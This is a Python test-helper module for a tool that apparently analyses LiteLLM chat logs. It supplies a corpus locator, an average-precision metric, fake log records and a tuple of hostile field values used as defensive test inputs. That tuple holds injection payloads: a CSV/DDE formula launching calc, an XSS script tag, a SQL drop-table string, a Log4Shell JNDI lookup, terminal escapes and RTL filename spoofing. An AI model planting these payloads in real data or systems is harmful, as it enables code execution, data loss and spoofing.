"""What tests of several stages import."""

import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).parents[1]
CORPUS = ROOT.parent / "shared" / "corpus"


def corpus(half: str) -> Path:
    """A part of the development corpus, or a skip with the reason."""
    path = CORPUS / half
    if not path.exists():
        pytest.skip(f"the development corpus does not lie beside the checkout ({path.relative_to(ROOT.parent)})")
    return path


def average_precision(scores: Sequence[float], hostile: Sequence[bool]) -> float:
    """Ties stand in the worst order: honest clients first."""
    hits, total = 0, 0.0
    for place, (_, bad) in enumerate(sorted(zip(scores, hostile, strict=True), key=lambda pair: (-pair[0], pair[1])), 1):
        hits += bad
        total += hits / place if bad else 0.0
    return total / sum(hostile)


def record(number: int, text: str = "hello") -> dict[str, Any]:
    """A chat in a LiteLLM log."""
    return {
        "id": f"call-{number}",
        "call_type": "acompletion",
        "startTime": 1767225600.5 + number,
        "model": "orchid-chat",
        "metadata": {"user_api_key_user_id": "ana"},
        "messages": [{"role": "user", "content": text}],
        "response": {"choices": [{"finish_reason": "stop", "message": {"content": "hi"}}]},
    }


def lines(count: int, start: int = 0) -> bytes:
    """So many of them as JSON lines, each with a text of its own."""
    return b"".join(json.dumps(record(n, f"question {n}")).encode() + b"\n" for n in range(start, start + count))


# Values that a hostile client may put into any field.
HOSTILE = (
    "\x1b[2J\x1b]0;owned\x07",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "<script>alert(1)</script>",
    "'; drop table events; --",
    '"quoted", "csv"',
    "[bold red]markup[/]",
    "\u202egnp.exe",
    "a\u0000b",
    "${jndi:ldap://x}",
    "{{7*7}}",
    "| pipe | table |",
    "x" * 10_000,
    "😀 e\u0301 漢字 \u00a0",
)
